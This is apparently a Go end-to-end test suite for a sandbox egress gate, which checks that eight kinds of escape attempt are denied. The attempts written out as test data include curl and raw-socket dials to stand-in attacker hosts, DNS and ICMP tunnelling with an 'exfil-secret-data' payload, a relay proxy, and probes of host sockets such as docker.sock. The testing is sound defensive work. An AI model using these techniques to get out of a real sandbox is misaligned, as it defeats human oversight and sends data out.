package e2e

// Going around the gate (threat model 1-8): subtests of TestGate (gate_test.go has the sandbox,
// the servers and the leak check every subtest runs under). Each runs its attempts in as few
// guest sessions as it can (see script).

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// dropBound is how long an attempt whose traffic the gate drops silently may take: the
// probe's own deadline plus slack. Nothing is answered, so the guest can only time out.
const dropBound = 2500 * time.Millisecond

// to is the probe flag for attempts whose traffic is dropped: wait this long, no more.
var to = "-timeout=" + dropTimeout

// tcpTo is the probe flag for attempts that must be refused or answered at once.
var tcpTo = "-timeout=" + probeDefault

// inetHostAddr is the host's end of the test internet's veth: one of the host's own
// addresses.
const inetHostAddr = "198.51.100.1"

// 1. A program that ignores proxy variables has no route except through the gate: the only
// interface besides lo is tap0, the only routes go to the gateway, and a static binary (the
// probe) dialing out directly is decided like everything else.
func (g *gateEnv) attack01(t *testing.T) {
	m := g.mark(t)
	s := g.script()
	env := s.shell(`echo "proxyvars=$(env | grep -ci _proxy)"; echo "==routes"; cat /proc/net/route; echo "==dev"; cat /proc/net/dev`)
	c0 := s.curl("--noproxy", "*", "http://"+evilIP+"/")
	c1 := s.curl("--noproxy", "*", "-k", "https://"+evilIP+"/")
	pp := s.probes(
		pr("tcp", "-read", tcpTo, evilIP+":2222"),
		pr("tcp", tcpTo, "-send", `GET / HTTP/1.1\r\nHost: `+evilIP+`\r\nConnection: close\r\n\r\n`, evilIP+":80"),
	)
	o := s.run(t)
	out := o.text(env)
	if !strings.Contains(out, "proxyvars=0") {
		t.Errorf("the sandbox has proxy variables; the gate must not depend on clients honouring them:\n%s", out)
	}
	_, rest, _ := strings.Cut(out, "==routes\n")
	routes, dev, _ := strings.Cut(rest, "==dev\n")
	for _, r := range strings.Split(strings.TrimSpace(routes), "\n")[1:] {
		// /proc/net/route: the gateway 10.88.0.1 is 0100580A in little-endian hex.
		if f := strings.Fields(r); len(f) < 3 || f[0] != "tap0" || (f[2] != "0100580A" && f[2] != "00000000") {
			t.Errorf("a route that does not go through the gateway on tap0: %q", r)
		}
	}
	var ifaces []string
	for _, l := range strings.Split(dev, "\n") {
		if name, _, ok := strings.Cut(l, ":"); ok && !strings.Contains(name, "|") {
			ifaces = append(ifaces, strings.TrimSpace(name))
		}
	}
	if strings.Join(ifaces, ",") != "lo,tap0" && strings.Join(ifaces, ",") != "tap0,lo" {
		t.Errorf("want exactly the interfaces lo and tap0, got %q", ifaces)
	}
	c := []curlResult{o.curl(t, c0), o.curl(t, c1)}
	curlDenied(t, c[0])
	if c[0].status != "403" {
		t.Errorf("plain HTTP to the attacker's address: want the gate's 403, got %v", c[0])
	}
	curlDenied(t, c[1])
	p := o.probes(t, pp)
	refusedPromptly(t, "static binary to the attacker's :2222", p[0])
	if !strings.HasPrefix(p[1].Data, "HTTP/1.1 403") || p[1].took() > promptly {
		t.Errorf("static binary, plain HTTP to the attacker's address: want the gate's 403 at once, got %v", p[1])
	}
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":80"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
}

// 2. Dialing a hard-coded public address after DNS was refused, curl --resolve, raw and
// packet sockets.
func (g *gateEnv) attack02(t *testing.T) {
	m := g.mark(t)
	s := g.script()
	cs := []int{
		s.curlBg("--resolve", "evil.test:80:"+evilIP, "http://evil.test/"),
		s.curlBg("--resolve", "evil.test:443:"+evilIP, "--cacert", g.ca, "https://evil.test/"),
		s.curlBg("--resolve", "evil.test:2222:"+evilIP, "http://evil.test:2222/"),
	}
	pp := s.probes(pr("tcp", tcpTo, evilIP+":8080"))
	rp := s.rootProbes(pr("raw", evilIP+":9999"), pr("packet", evilIP+":2222"))
	o := s.run(t)
	for i, ci := range cs {
		c := o.curl(t, ci)
		curlDenied(t, c)
		if i == 0 && c.status != "403" {
			t.Errorf("--resolve to the attacker, plain HTTP: want the gate's 403, got %v", c)
		}
	}
	refusedPromptly(t, "hard-coded address "+evilIP+":8080", o.probes(t, pp)[0])
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":80", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":8080"})
	// Raw and packet sockets: either the guest kernel refuses to make one (gVisor without
	// --net-raw), or what they send arrives at the gate like any packet and is denied there.
	for i, r := range o.probes(t, rp) {
		what, dst := "raw IP socket", evilIP+":9999"
		if i == 1 {
			what, dst = "packet socket", evilIP+":2222"
		}
		if !r.OK {
			if !strings.Contains(r.Err, "socket") {
				t.Errorf("%s: failed, but not at creating the socket: %v", what, r)
			}
			t.Logf("%s: the guest kernel refuses it: %s", what, r.Err)
			continue
		}
		t.Logf("%s: the guest sent it (%s); the gate must have denied it", what, r.Data)
		g.denied(t, m, match{Proto: "udp", Dst: dst})
	}
}

// 3. UDP: QUIC, plain UDP to any port, DNS to a public resolver, DNS over TLS. The test
// internet's own DNS server (198.51.100.53) stands in for 8.8.8.8: its query log shows
// whether anything reached it.
func (g *gateEnv) attack03(t *testing.T) {
	m := g.mark(t)
	attempts := []struct {
		what string
		c    call
	}{
		{"UDP to the attacker :9999", pr("udp", to, evilIP+":9999")},
		{"QUIC to the attacker :443", pr("udp", to, "-quic", evilIP+":443")},
		{"QUIC to an allowed host :443", pr("udp", to, "-quic", allowedIP+":443")},
		{"UDP to an allowed host's address :9999", pr("udp", to, allowedIP+":9999")},
		{"UDP to allowed.test:9999", pr("udp", to, "allowed.test:9999")},
		{"DNS to a public resolver (denied name)", pr("dns", to, upstreamDNS, "leak1.evil.test", "A")},
		{"DNS to a public resolver (allowed name)", pr("dns", to, upstreamDNS, "allowed.test", "A")},
		{"DNS TXT to the attacker's resolver", pr("dns", to, evilIP+":53", "leak2.evil.test", "TXT")},
		{"DNS over TCP to a public resolver", pr("dns", to, "-tcp", upstreamDNS, "leak3.evil.test", "A")},
		{"DNS over TCP to the attacker", pr("dns", to, "-tcp", evilIP+":53", "leak4.evil.test", "A")},
		{"DNS over TLS (853) bytes", pr("tcp", to, "-send", "dot", evilIP+":853")},
		{"DNS over TLS handshake, attacker SNI", pr("tls", to, "-sni", "dns.evil.test", evilIP+":853")},
		{"DNS over TLS handshake, allowed SNI", pr("tls", to, "-sni", "allowed.test", evilIP+":853")},
	}
	var calls []call
	for _, a := range attempts {
		calls = append(calls, a.c)
	}
	s := g.script()
	i := s.parallel(calls...)
	p := s.run(t).probes(t, i)
	for i, a := range attempts {
		droppedWithin(t, a.what, p[i], dropBound)
	}
	for _, dst := range []string{evilIP + ":9999", evilIP + ":443", allowedIP + ":443", allowedIP + ":9999", upstreamDNS, evilIP + ":53"} {
		g.denied(t, m, match{Proto: "udp", Dst: dst})
	}
	g.denied(t, m, match{Proto: "tcp", Dst: upstreamDNS})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":853"})
	for _, q := range g.net.Queries() {
		if strings.HasPrefix(q, "leak") {
			t.Errorf("LEAK: the public resolver stand-in received %q", q)
		}
	}
}

// 4. ICMP echo to the outside and ICMP tunnelling: the gate never forwards ICMP; it answers
// an echo itself, and only for an allowed destination. The namespace's own ICMP counters show
// that nothing arrived there.
func (g *gateEnv) attack04(t *testing.T) {
	icmpBefore := g.snmpCounter(t, "Icmp", "InMsgs")
	m := g.mark(t)
	whats := []string{"echo to the attacker", "ICMP tunnel payload to the attacker", "echo to an address no rule allows",
		"echo to the metadata address", "echo to the host's veth address"}
	s := g.script()
	i := s.parallel(
		pr("ping", to, evilIP),
		pr("ping", to, "-size", "1200", "-pattern", "657866696c2d7365637265742d64617461", evilIP), // "exfil-secret-data"
		pr("ping", to, "198.51.100.53"),
		pr("ping", to, metadataIP),
		pr("ping", to, inetHostAddr),
	)
	for k, r := range s.run(t).probes(t, i) {
		droppedWithin(t, whats[k], r, dropBound)
	}
	g.denied(t, m, match{Proto: "icmp", Dst: evilIP})
	g.denied(t, m, match{Proto: "icmp", Dst: metadataIP})

	// An allowed destination, looked up first so the gate knows the name: the gate answers.
	s = g.script()
	i = s.probes(pr("dns", gatewayIP+":53", "allowed.test", "A"), pr("ping", tcpTo, allowedIP))
	if r := s.run(t).probes(t, i); !r[1].OK {
		t.Errorf("echo to allowed.test's address: want a reply (from the gate), got %v", r[1])
	}
	if d := g.snmpCounter(t, "Icmp", "InMsgs") - icmpBefore; d != 0 {
		t.Errorf("LEAK: %d ICMP messages reached the test internet", d)
	}
	g.expect(t, m, match{Proto: "icmp", Dst: allowedIP, Verdict: "allow", Name: "allowed.test"})
}

// 5. IPv6 of every form: the guest has no IPv6 address, so every dial fails in the guest at
// once; and AAAA answers are empty even where the upstream has records.
func (g *gateEnv) attack05(t *testing.T) {
	targets := []string{
		"[2001:db8::66]:80",                             // global unicast
		"[fe80::1%tap0]:80",                             // link-local
		"[::ffff:" + evilIP + "]:80",                    // IPv4-mapped
		"[64:ff9b::c633:6442]:80",                       // NAT64 of the attacker
		"[2002:c633:6442::1]:80",                        // 6to4 of the attacker
		"[2001:0:c633:6442::1]:80",                      // Teredo
		"[fd00:ec2::254]:80",                            // AWS metadata over IPv6
		"[::ffff:169.254.169.254]:80",                   // metadata, mapped
		"[::ffff:127.0.0.1]:" + fmt.Sprint(g.host.port), // host loopback, mapped
	}
	var calls []call
	for _, a := range targets {
		calls = append(calls, pr("tcp", to, "-6", "-send", `GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n`, a))
	}
	calls = append(calls, pr("udp", to, "-6", "[2001:db8::53]:53"), pr("udp", to, "-6", "[ff02::1%tap0]:9999"))
	s := g.script()
	// A stack that configures IPv6 does so within a second or two of boot (link-local
	// address, duplicate address detection): look only once the guest is older than that.
	addrs := s.shell(`up=$(cut -d. -f1 /proc/uptime); if [ "$up" -lt 4 ]; then sleep $((4 - up)); fi
grep -v ' lo$' /proc/net/if_inet6 2>/dev/null | grep . || echo no-ipv6-address`)
	dials := s.parallel(calls...)
	aaaa := s.probes(pr("dns", gatewayIP+":53", "allowed.test", "AAAA"), pr("dns", gatewayIP+":53", "evil.test", "AAAA"))
	o := s.run(t)
	if out := o.text(addrs); !strings.Contains(out, "no-ipv6-address") {
		t.Errorf("the guest has an IPv6 address outside lo (the gate drops IPv6 frames, but the contract is: no address):\n%s", out)
	}
	p := o.probes(t, dials)
	for i, a := range targets {
		r := p[i]
		if r.OK {
			// Go may send an IPv4-mapped destination as IPv4; then it met the gate and must
			// have been denied there.
			if strings.HasPrefix(a, "[::ffff:") && (r.Data == "" || strings.HasPrefix(r.Data, "HTTP/1.1 403")) {
				continue
			}
			t.Errorf("IPv6 %s: connected: %v", a, r)
			continue
		}
		refusedPromptly(t, "IPv6 "+a, r)
	}
	droppedWithin(t, "UDP over IPv6", p[len(targets)], dropBound)
	droppedWithin(t, "UDP to IPv6 multicast", p[len(targets)+1], dropBound)
	for _, r := range o.probes(t, aaaa) {
		if !r.OK || !strings.HasPrefix(r.Data, "NOERROR n=0") {
			t.Errorf("AAAA: want an empty NOERROR answer, got %v", r)
		}
	}
}

// 6. Plain HTTP to a denied host while HTTPS is filtered, and the reverse: each scheme is
// decided on its own, and a denied plain-HTTP request gets a 403 that names the host and the
// exact command that would allow it.
func (g *gateEnv) attack06(t *testing.T) {
	m := g.mark(t)
	c := g.curls(t,
		[]string{"http://evil.test/"},
		[]string{"--cacert", g.ca, "https://evil.test/"},
		[]string{"--cacert", g.ca, "https://httpsonly.test/"},
		[]string{"http://httpsonly.test/"},
	)
	curlDenied(t, c[0])
	want := "moat network allow " + g.name + " evil.test"
	if c[0].status != "403" || !strings.Contains(c[0].body, "evil.test") || !strings.Contains(c[0].body, want) {
		t.Errorf("plain HTTP to a denied host: want a 403 whose body names evil.test and %q, got %v", want, c[0])
	}
	if h := headerValue(c[0].headers, "X-Moat-Denied"); !strings.Contains(h, "evil.test") {
		t.Errorf("X-Moat-Denied: want it to name evil.test, got %q\n%s", h, c[0].headers)
	}
	// HTTPS to a denied host: since the gate can terminate TLS, the refusal is the
	// same readable page over TLS, from the sandbox CA the guest trusts; never the host's answer.
	curlDenied(t, c[1])
	if c[1].exit == 0 && (c[1].status != "403" || !strings.Contains(c[1].body, want)) {
		t.Errorf("HTTPS to a denied host: want a failure or the gate's 403 naming %q, got %v", want, c[1])
	}
	curlReached(t, c[2], "inet https "+httpsOnlyIP+":443 httpsonly.test/")
	curlDenied(t, c[3])
	if want := "moat network allow " + g.name + " httpsonly.test"; c[3].status != "403" || !strings.Contains(c[3].body, want) {
		t.Errorf("plain HTTP to a host allowed on :443 only: want a 403 naming %q, got %v", want, c[3])
	}
	g.denied(t, m, match{Proto: "tcp", Dst: "*:80", Name: "evil.test", NameFrom: "host"})
	g.denied(t, m, match{Proto: "tcp", Dst: "*:443", Name: "evil.test", NameFrom: "sni"})
	g.denied(t, m, match{Proto: "tcp", Dst: "*:80", Name: "httpsonly.test"})
	g.expect(t, m, match{Proto: "tcp", Dst: "*:443", Name: "httpsonly.test", Verdict: "allow"})
}

func headerValue(headers, name string) string {
	for _, l := range strings.Split(headers, "\n") {
		k, v, ok := strings.Cut(l, ":")
		if ok && strings.EqualFold(strings.TrimSpace(k), name) {
			return strings.TrimSpace(v)
		}
	}
	return ""
}

// 7. A relay inside the sandbox (a CONNECT proxy an agent starts) whose traffic the policy
// never sees: its own connections leave through the gate like any other, and a CONNECT sent
// to the gate itself is not relayed.
func (g *gateEnv) attack07(t *testing.T) {
	m := g.mark(t)
	allowedReqs := len(g.srv["allowed:80"].Requests())
	s := g.script()
	s.shell(shQuote(g.probe, "proxy", "-timeout", "15s", "127.0.0.1:3128") + ` >/tmp/moat-proxy.json 2>&1 &
echo $! >/tmp/moat-proxy.pid
for i in 1 2 3 4 5 6 7 8 9 10; do ` + shQuote(g.probe, "tcp", "-timeout", "1s", "127.0.0.1:3128") + ` | grep -q '"ok":true' && break; sleep 0.1; done`)
	const proxy = "http://127.0.0.1:3128"
	cs := []int{
		s.curl("-p", "-x", proxy, "http://evil.test/"),
		s.curl("-x", proxy, "--cacert", g.ca, "https://evil.test/"),
		s.curl("-p", "-x", proxy, "http://"+evilIP+":2222/"),
		s.curl("-x", proxy, "--cacert", g.ca, "https://allowed.test/relayed"),
	}
	s.shell(`kill $(cat /tmp/moat-proxy.pid) 2>/dev/null; true`)
	// CONNECT sent to the gate itself, on an allowed host's port 80 and on the attacker's.
	pp := s.probes(
		pr("tcp", tcpTo, "-send", `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n`, allowedIP+":80"),
		pr("tcp", tcpTo, "-send", `CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n`, evilIP+":80"),
	)
	o := s.run(t)
	for i, what := range []string{"relay to http://evil.test", "relay to https://evil.test", "relay to the attacker's :2222"} {
		c := o.curl(t, cs[i])
		if c.exit == 0 && c.status != "403" {
			t.Errorf("%s: got through: %v", what, c)
		}
	}
	// The control: the relay itself works, for what the policy allows.
	if c := o.curl(t, cs[3]); c.status != "200" || !strings.Contains(c.body, "allowed.test/relayed") {
		t.Errorf("relay to https://allowed.test (allowed): want 200, got %v; the relay does not work, so the denials above prove nothing", c)
	}
	for i, r := range o.probes(t, pp) {
		if strings.Contains(r.Data, " 200") || r.took() > promptly {
			t.Errorf("CONNECT #%d to the gate: want a prompt refusal, got %v", i, r)
		}
	}
	for _, rq := range g.srv["allowed:80"].Requests()[allowedReqs:] {
		if rq.Method == "CONNECT" {
			t.Errorf("a CONNECT reached the allowed host's server: %+v", rq)
		}
	}
	g.denied(t, m, match{Proto: "tcp", Dst: "*:80", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: "*:443", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
	g.denied(t, m, match{Proto: "tcp", Dst: allowedIP + ":80", Reason: "CONNECT"})
}

// 8. The daemon's control socket, the host's container and desktop sockets, and any unix
// socket of the host, abstract or in the workspace itself.
func (g *gateEnv) attack08(t *testing.T) {
	abstract := fmt.Sprintf("@moat-e2e-gate-%d", os.Getpid())
	ab, _ := listenHost(t, "unix", abstract)
	inWS := filepath.Join(g.dir, "host.sock")
	ws, _ := listenHost(t, "unix", inWS)
	os.Chmod(inWS, 0o777)
	control := filepath.Join(g.state, "control.sock")
	if !fileExists(control) {
		t.Fatalf("the daemon's control socket %s does not exist on the host; the test would prove nothing", control)
	}
	paths := []string{
		abstract, inWS, control,
		"/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
		"/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0", "@/tmp/.X11-unix/X0",
		"/run/user/0/bus", "/run/systemd/private",
	}
	var calls []call
	for _, p := range paths {
		calls = append(calls, pr("unix", "-timeout", "1s", p))
	}
	s := g.script()
	i := s.rootProbes(calls...)
	vis := s.shell(shQuote("sh", "-c", `for p in "$0" "$1" "$2"; do if [ -e "$p" ]; then echo "VISIBLE $p"; fi; done; true`, control, g.state, moatHome))
	o := s.run(t)
	for k, r := range o.probes(t, i) {
		refusedPromptly(t, "unix socket "+paths[k], r)
	}
	if ab.accepts.Load() != 0 || ws.accepts.Load() != 0 {
		t.Errorf("LEAK: the host's unix sockets accepted connections from the guest: abstract %d, in the workspace %d", ab.accepts.Load(), ws.accepts.Load())
	}
	if out := o.text(vis); strings.Contains(out, "VISIBLE") {
		t.Errorf("the daemon's state is visible in the guest:\n%s", out)
	}
}
